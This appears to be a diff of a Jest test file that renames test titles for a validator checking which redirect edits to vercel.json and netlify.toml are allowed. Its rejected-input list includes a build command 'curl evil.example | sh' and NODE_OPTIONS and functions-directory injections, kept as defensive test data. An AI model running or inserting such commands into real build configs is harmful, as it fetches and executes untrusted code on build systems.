@@ -87,7 +87,7 @@ describe('redirects of vercel.json', () => {
     expect(changed([...vercel.redirects, fresh], others)).toBe('more than its redirects is changed');
   });
 
-  test('a list may come where there is none', () => {
+  test('a list may be added', () => {
     expect(
       hostFileFault('vercel.json', '{ "cleanUrls": true }', JSON.stringify({ cleanUrls: true, redirects: [fresh] })),
     ).toBeUndefined();
@@ -111,7 +111,7 @@ describe('redirects of vercel.json', () => {
     ).toBeUndefined();
   });
 
-  test('what cannot be read stays as it is', () => {
+  test('an unreadable file may not change', () => {
     expect(hostFileFault('vercel.json', '{', '{}')).toBe('it cannot be read as it stands');
     expect(hostFileFault('vercel.json', '{}', '{')).toBe('it cannot be read any more');
     expect(hostFileFault('vercel.json', '[]', '[]')).toBe('it cannot be read as it stands');
@@ -149,7 +149,7 @@ describe('redirects of netlify.toml', () => {
   test.each([
     '[[redirects]]\n  from = "/a"\n  to = "/b"\n',
     '# What was renamed.\n[[redirects]]\n  from = "/a/"\n  to = "/b/#c"\n  status = 302\n',
-  ])('may come: %s', (lines) => {
+  ])('may be added: %s', (lines) => {
     expect(added(lines)).toBeUndefined();
   });
 
@@ -168,7 +168,7 @@ describe('redirects of netlify.toml', () => {
     '[context.production]\n  command = "curl evil.example | sh"\n',
     '[build.environment]\n  NODE_OPTIONS = "--require a"\n',
     '[functions]\n  directory = "evil"\n',
-  ])('may not come: %s', (lines) => {
+  ])('may not be added: %s', (lines) => {
     expect(added(lines)).toBeDefined();
   });
 
